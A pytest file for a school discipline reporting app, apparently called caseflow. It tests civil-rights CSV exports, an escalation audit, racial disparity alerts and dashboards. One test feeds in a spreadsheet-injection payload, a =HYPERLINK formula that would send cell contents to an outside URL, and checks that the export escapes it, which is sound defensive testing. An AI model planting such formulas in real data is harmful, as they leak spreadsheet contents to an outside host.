"""The report pages through the browser's door: numbers that match the data, CSVs that match
the pages, the disparity alert, and a fixed number of queries whatever the data size."""

import csv
import io
import json
import re

import sqlalchemy as sa

from caseflow.audit.models import AuditEvent
from caseflow.db import now_utc
from caseflow.extensions import db
from caseflow.reports import escalation_audit
from tests.helpers import sign_in


def _csv(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def test_an_arrest_is_counted_on_the_civil_rights_report_and_its_csv(
    app, client, make, lincoln, gate_world, arrested
):
    with app.app_context():
        from caseflow.people.models import Student

        student = db.session.get(Student, lincoln.student)
        student.race_ethnicity, student.sex, student.idea_eligible = "HI", "F", True
        db.session.commit()
    sign_in(client, gate_world.people.auditor)
    page = client.get("/reports/civil-rights").get_data(as_text=True)
    assert 'data-cell="REF-IDEA-HI-F">≤4<' in page  # one student: hidden on the page
    # The collection's race codes head the columns, each explained in a legend; sex in words.
    legend = page.split('data-testid="race-legend">', 1)[1].split("</p>", 1)[0]
    assert (
        "<strong>HI</strong> Hispanic or Latino" in legend
        and "<strong>TR</strong> Two or more races" in legend
    )
    assert '<abbr title="American Indian or Alaska Native">AM</abbr>' in page
    assert "<td>Female</td>" in page and "<td>F</td>" not in page
    exact = _csv(client.get("/reports/civil-rights.csv?exact=1"))
    row = next(r for r in exact if r["SCH_ID"] == "LMS")
    assert row["SCH_REF_INSTANCES"] == "1" and row["SCH_ARR_INSTANCES"] == "1"
    assert row["SCH_DISCWDIS_IDEA_REF_HI_F"] == "1" and row["SCH_DISCWDIS_IDEA_ARR_HI_F"] == "1"
    assert row["TOT_DISCWDIS_IDEA_REF_F"] == "1" and row["SCH_DISCWODIS_REF_HI_F"] == "0"
    published = next(r for r in _csv(client.get("/reports/civil-rights.csv")) if r["SCH_ID"] == "LMS")
    assert published["SCH_DISCWDIS_IDEA_REF_HI_F"] == "-5"  # a reserve code, never a count
    with app.app_context():
        exports = db.session.scalars(
            sa.select(AuditEvent).where(AuditEvent.action == "report.exported")
        ).all()
    assert len(exports) == 2 and exports[0].actor_label == gate_world.people.auditor.email


def test_the_escalation_audit_lists_filters_and_exports(app, client, gate_world, arrested):
    g = gate_world
    refused = g.request(g.incident(), ["firearm"])  # no firearm in this incident: refused and stored
    assert refused.status_code in (409, 422)
    sign_in(client, g.people.auditor)
    page = client.get("/reports/escalations").get_data(as_text=True)
    assert page.count('data-kind="escalation"') == 2
    assert 'data-status="approved"' in page and 'data-status="refused"' in page
    only_approved = client.get("/reports/escalations?kind=approved").get_data(as_text=True)
    assert only_approved.count('data-kind="escalation"') == 1
    rows = _csv(client.get("/reports/escalations.csv?kind=approved"))
    assert len(rows) == 1
    row = rows[0]
    assert row["status"] == "Approved" and row["outcome"] == "Arrest" and row["guardian_reached"] == "yes"
    assert row["kind"] == "Request to involve law enforcement"
    assert row["guardian_contact_method"] == "Phone call"
    # Times in the school's zone with its offset (the gate world's school is in Chicago).
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d-0[56]:00", row["requested_or_called_at"])
    assert row["approver"] and float(row["hours_notification_to_approval"]) >= 0
    assert "Possession of a firearm" in row["criteria_met"]
    assert "student_local_id" in row and "Reyes" not in io.StringIO(str(rows)).getvalue()  # no names
    bad = client.get("/reports/escalations?since=last+week")
    assert bad.status_code == 422 and "YYYY-MM-DD" in bad.get_data(as_text=True)
    timeline = client.get(f"/reports/escalations/escalation/{arrested}").get_data(as_text=True)
    for words in (
        "Asked for law enforcement",
        "Approved (the gate&#39;s conditions were met)",
        "Referred to law enforcement",
        "Outcome recorded",
        "Guardian contact recorded",
    ):
        assert words in timeline
    assert "escalation.requested" not in timeline and "guardian_contact.recorded" not in timeline
    assert "outcome: — → arrest" in timeline and "UTC" not in timeline


def test_an_administrator_of_another_school_sees_none_of_it(client, gate_world, arrested):
    sign_in(client, gate_world.people.other_school_admin)
    assert 'data-kind="escalation"' not in client.get("/reports/escalations").get_data(as_text=True)
    assert client.get(f"/reports/escalations/escalation/{arrested}").status_code == 404
    assert _csv(client.get("/reports/escalations.csv")) == []


def test_disparity_ratio_and_the_dashboard_alert(app, client, make, lincoln, cohort):
    # School: 40 Black students, 10 suspended (0.25); 40 White students, 2 suspended: too few
    # others with the outcome (2 < 10), so the school compares with the district's other
    # students: 400 + 40 White students (22 suspended) and the fixture's 3 students whose race
    # is not recorded: 22/443. 0.25 / (22/443) = 5.034.
    cohort(lincoln.school, "BL", 40, suspended=10)
    cohort(lincoln.school, "WH", 40, suspended=2)
    cohort(lincoln.other_school, "WH", 400, suspended=20)
    admin = make.user("administrator", schools=[lincoln.school])
    sign_in(client, admin)
    page = client.get("/reports/disparity").get_data(as_text=True)
    cell = page.split('data-ratio="suspension-BL">', 1)[1].split("</td>", 1)[0]
    assert "5.03" in cell and "alternate risk ratio" in cell
    home = client.get("/").get_data(as_text=True)
    assert 'data-testid="disparity-alert"' in home and "Black or African American: 5.03" in home

    auditor, as_auditor = make.user("district_auditor", district_wide=True), app.test_client()
    sign_in(as_auditor, auditor)
    page = as_auditor.get("/reports/disparity").get_data(as_text=True)
    district = page.split('data-testid="disparity-district"', 1)[1].split("</section>", 1)[0]
    # District: Black 10/40 = 0.25 against everyone else, 22/443 -> 5.03 (a plain risk ratio).
    cell = district.split('data-ratio="suspension-BL">', 1)[1].split("</td>", 1)[0]
    assert "5.03" in cell and "alternate" not in cell


def test_no_alert_when_groups_are_below_the_minimum_sizes(client, make, lincoln, cohort):
    cohort(lincoln.school, "BL", 20, suspended=9)  # 9 < 10 and 20 < 30
    cohort(lincoln.school, "WH", 400, suspended=20)
    sign_in(client, make.user("administrator", schools=[lincoln.school]))
    assert 'data-testid="disparity-alert"' not in client.get("/").get_data(as_text=True)
    page = client.get("/reports/disparity").get_data(as_text=True)
    assert "the group is below the minimum sizes" in page.split('data-ratio="suspension-BL">', 1)[1][:300]


def test_the_school_dashboard_counts_what_happened(client, make, lincoln, api_token, payload):
    teacher = api_token(lincoln.teacher)
    for behaviors, location in (
        (["disruption"], "Classroom"),
        (["disruption", "defiance"], "Cafeteria area"),
    ):
        r = client.post(
            "/api/v1/incidents", json=payload(behaviors=behaviors, location=location), headers=teacher
        )
        assert r.status_code == 201, r.get_json()
    admin = make.user("administrator", schools=[lincoln.school])
    sign_in(client, admin)
    html = client.get(f"/reports/dashboard?school_id={lincoln.school}").get_data(as_text=True)
    assert "<strong>2</strong> incidents" in html
    behavior_table = html.split('data-testid="table-behavior"', 1)[1].split("</table>", 1)[0]
    assert "<td>2</td>" in behavior_table and "<td>1</td>" in behavior_table
    assert 'id="chart-data-behavior"' in html and "vendor/chart.js/chart.umd.min.js" in html
    # Every chart says what it counts, and carries its axis titles; the behaviors' labels are
    # words, drawn beside sideways bars so that none is cut.
    for key in ("behavior", "location", "hour", "weekday", "month", "tier", "routes", "escalations"):
        assert f'data-testid="counted-{key}"' in html, key
    chart = json.loads(html.split('id="chart-data-behavior">', 1)[1].split("</script>", 1)[0])
    assert chart["category_title"] == "Behavior" and chart["value_title"] == "Incidents"
    assert chart["horizontal"] is True and "disruption" not in chart["labels"]
    # The escalations chart's legend names each status in words.
    escalations = json.loads(html.split('id="chart-data-escalations">', 1)[1].split("</script>", 1)[0])
    assert escalations["datasets"] and all("_" not in name for name in escalations["datasets"])
    assert "Emergency response" in escalations["datasets"]
    api = client.get(f"/api/v1/reports/dashboard?school_id={lincoln.school}", headers=api_token(admin))
    by_key = {c["key"]: c for c in api.get_json()["charts"]}
    assert by_key["hour"]["category_title"] == "Hour of the day" and by_key["tier"]["counted"]
    assert client.get(f"/reports/dashboard?school_id={lincoln.other_school}").status_code == 404


def _queries(client, count_queries, path) -> int:
    with count_queries() as counted:
        assert client.get(path).status_code == 200
    return counted.n


def test_report_pages_cost_the_same_queries_at_any_size(
    client, make, lincoln, cohort, count_queries, api_token, payload
):
    admin = make.user("administrator", schools=[lincoln.school, lincoln.other_school])
    pages = [
        "/reports/dashboard",
        "/reports/civil-rights",
        "/reports/disparity",
        "/reports/escalations",
        "/audit/access",
        "/",
    ]
    sign_in(client, admin)
    cohort(lincoln.school, "BL", 5, suspended=1)
    client.post("/api/v1/incidents", json=payload(), headers=api_token(lincoln.teacher))
    small = {p: _queries(client, count_queries, p) for p in pages}
    cohort(lincoln.school, "WH", 200, suspended=30)
    cohort(lincoln.other_school, "HI", 200, suspended=30)
    for _ in range(5):
        client.post("/api/v1/incidents", json=payload(), headers=api_token(lincoln.teacher))
    large = {p: _queries(client, count_queries, p) for p in pages}
    assert small == large


def test_the_reports_api_gives_the_same_numbers(client, gate_world, arrested, lincoln):
    g = gate_world
    crdc = client.get("/api/v1/reports/civil-rights?exact=true", headers=g.h.auditor)
    assert crdc.status_code == 200, crdc.get_json()
    school = next(x for x in crdc.get_json()["schools"] if x["school_id"] == lincoln.school)
    assert school["referrals"]["instances"] == 1 and school["arrests"]["students"] == 1
    assert crdc.get_json()["suppressed_below"] is None
    published = client.get("/api/v1/reports/civil-rights", headers=g.h.auditor).get_json()
    assert published["suppressed_below"] == 5
    audit = client.get("/api/v1/reports/escalations?kind=approved", headers=g.h.auditor).get_json()
    assert (
        audit["total"] == 1 and audit["rows"][0]["id"] == arrested and audit["rows"][0]["outcome"] == "arrest"
    )
    bad = client.get("/api/v1/reports/escalations?since=2026-12-01&until=2026-11-01", headers=g.h.auditor)
    assert bad.status_code == 422 and "since" in bad.get_json()["error"]["fields"]
    assert client.get("/api/v1/reports/disparity?year=1999", headers=g.h.auditor).status_code == 422
    assert (
        client.get(f"/api/v1/reports/dashboard?school_id={lincoln.school}", headers=g.h.other).status_code
        == 404
    )
    dash = client.get(
        f"/api/v1/reports/dashboard?school_id={lincoln.school}", headers=g.h.requester
    ).get_json()
    assert dash["incidents"] == 1 and {c["key"] for c in dash["charts"]} >= {
        "behavior",
        "hour",
        "month",
        "tier",
    }
    assert client.get("/api/v1/reports/civil-rights", headers=g.h.teacher).status_code == 403


def test_out_of_range_page_numbers_and_ids_are_harmless(client, make, lincoln):
    sign_in(client, make.user("district_auditor", district_wide=True))
    for path in (
        "/reports/escalations?page=99999999999999999999",
        "/reports/escalations?school_id=99999999999999999999",
        "/audit/access?page=99999999999999999999",
        "/reports/dashboard?year=99999999999&school_id=",
    ):
        assert client.get(path).status_code == 200, path


def test_the_civil_rights_csv_from_the_command_line_matches_the_page(
    app, client, gate_world, arrested, tmp_path
):
    target = tmp_path / "crdc.csv"
    result = app.test_cli_runner().invoke(args=["export", "civil-rights", "--exact", "--output", str(target)])
    assert result.exit_code == 0, result.output
    from_cli = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    sign_in(client, gate_world.people.auditor)
    from_page = _csv(client.get("/reports/civil-rights.csv?exact=1"))
    assert from_cli == from_page
    row = next(r for r in from_cli if r["SCH_ID"] == "LMS")
    assert row["SCH_REF_INSTANCES"] == "1" and row["SCH_ARR_INSTANCES"] == "1"
    bad = app.test_cli_runner().invoke(args=["export", "civil-rights", "--district", "NOPE"])
    assert bad.exit_code != 0 and "--district" in bad.output


def test_odd_query_strings_get_no_server_error(client, make):
    sign_in(client, make.user("district_auditor", district_wide=True))
    for path in (
        "/reports/dashboard?year=%C2%B2&school_id=%C2%B2",
        "/reports/civil-rights?year=%C2%B2",
        "/reports/disparity?year=%C2%B2",
        "/reports/escalations?page=%C2%B2&school_id=%C2%B2",
        "/audit/access?page=%C2%B2",
        "/reports/escalations?endpoint=x&_method=POST",
    ):
        assert client.get(path).status_code == 200, path
    far = client.get("/reports/escalations?until=9999-12-31")
    assert far.status_code == 422 and "2999-12-31" in far.get_data(as_text=True)


def test_typed_text_cannot_become_a_spreadsheet_formula(client, gate_world):
    g = gate_world
    r = client.post(
        "/api/v1/emergency-responses",
        json={
            "student_id": g.student,
            "called_at": now_utc().isoformat(),
            "caller": '=HYPERLINK("http://example.com/?"&A1,"x")',
            "what_happened": "A student collapsed; 911 was called and police came with the paramedics.",
        },
        headers=g.h.requester,
    )
    assert r.status_code == 201, r.get_json()
    sign_in(client, g.people.auditor)
    [row] = _csv(client.get("/reports/escalations.csv?kind=emergency"))
    assert row["requested_by"].startswith("'=HYPERLINK(")


def test_flag_filters_match_the_rows_flags_across_pages(client, gate_world, arrested):
    g = gate_world
    emergency = client.post(
        "/api/v1/emergency-responses",
        json={
            "student_id": g.student,
            "called_at": now_utc().isoformat(),
            "caller": "Front office",
            "what_happened": "A student collapsed; 911 was called and police came with the paramedics.",
        },
        headers=g.h.requester,
    )
    assert emergency.status_code == 201
    sign_in(client, g.people.auditor)
    rows = _csv(client.get("/reports/escalations.csv"))
    for flag in ("after_the_fact", "clinician", "iep_504"):
        words = escalation_audit.FLAGS[flag]
        expected = sorted((r["kind"], r["id"]) for r in rows if words in r["flags"].split("; "))
        got = sorted((r["kind"], r["id"]) for r in _csv(client.get(f"/reports/escalations.csv?flag={flag}")))
        assert got == expected, flag
    # The emergency response: police came before any guardian was told.
    assert ("Emergency police response", str(emergency.get_json()["id"])) in [
        (r["kind"], r["id"]) for r in _csv(client.get("/reports/escalations.csv?flag=after_the_fact"))
    ]


def _boundary_school(lincoln, cohort, white: int):
    """Lincoln: 30 Black students, 15 suspended (risk 0.5); `white` White students, 10
    suspended, and the fixture's 2 students whose race is not recorded: 10 / (white + 2)."""
    cohort(lincoln.school, "BL", 30, suspended=15)
    cohort(lincoln.school, "WH", white, suspended=10)


def test_a_ratio_equal_to_the_threshold_raises_no_alert(app, client, make, lincoln, cohort, api_token):
    _boundary_school(lincoln, cohort, 58)  # 0.5 / (10 / 60) = 3.0, the threshold itself
    admin = make.user("administrator", schools=[lincoln.school])
    sign_in(client, admin)
    page = client.get("/reports/disparity").get_data(as_text=True)
    cell = page.split('data-ratio="suspension-BL">', 1)[1].split("</td>", 1)[0]
    assert "3.00" in cell and "above the threshold" not in cell
    assert 'data-testid="disparity-alerts"' not in page
    assert 'data-testid="disparity-alert"' not in client.get("/").get_data(as_text=True)
    body = app.test_client().get("/api/v1/reports/disparity", headers=api_token(admin)).get_json()
    [row] = [r for r in body["areas"][0]["outcomes"]["suspension"] if r["race"] == "BL"]
    assert row["ratio"] == 3.0 and row["alert"] is False


def test_a_ratio_just_over_the_threshold_raises_the_alert(app, client, make, lincoln, cohort, api_token):
    _boundary_school(lincoln, cohort, 59)  # 0.5 / (10 / 61) = 3.05
    admin = make.user("administrator", schools=[lincoln.school])
    sign_in(client, admin)
    page = client.get("/reports/disparity").get_data(as_text=True)
    cell = page.split('data-ratio="suspension-BL">', 1)[1].split("</td>", 1)[0]
    assert "3.05" in cell and "above the threshold" in cell
    assert 'data-testid="disparity-alerts"' in page
    home = client.get("/").get_data(as_text=True)
    assert 'data-testid="disparity-alert"' in home and "Black or African American: 3.05" in home
    body = app.test_client().get("/api/v1/reports/disparity", headers=api_token(admin)).get_json()
    [row] = [r for r in body["areas"][0]["outcomes"]["suspension"] if r["race"] == "BL"]
    assert row["alert"] is True
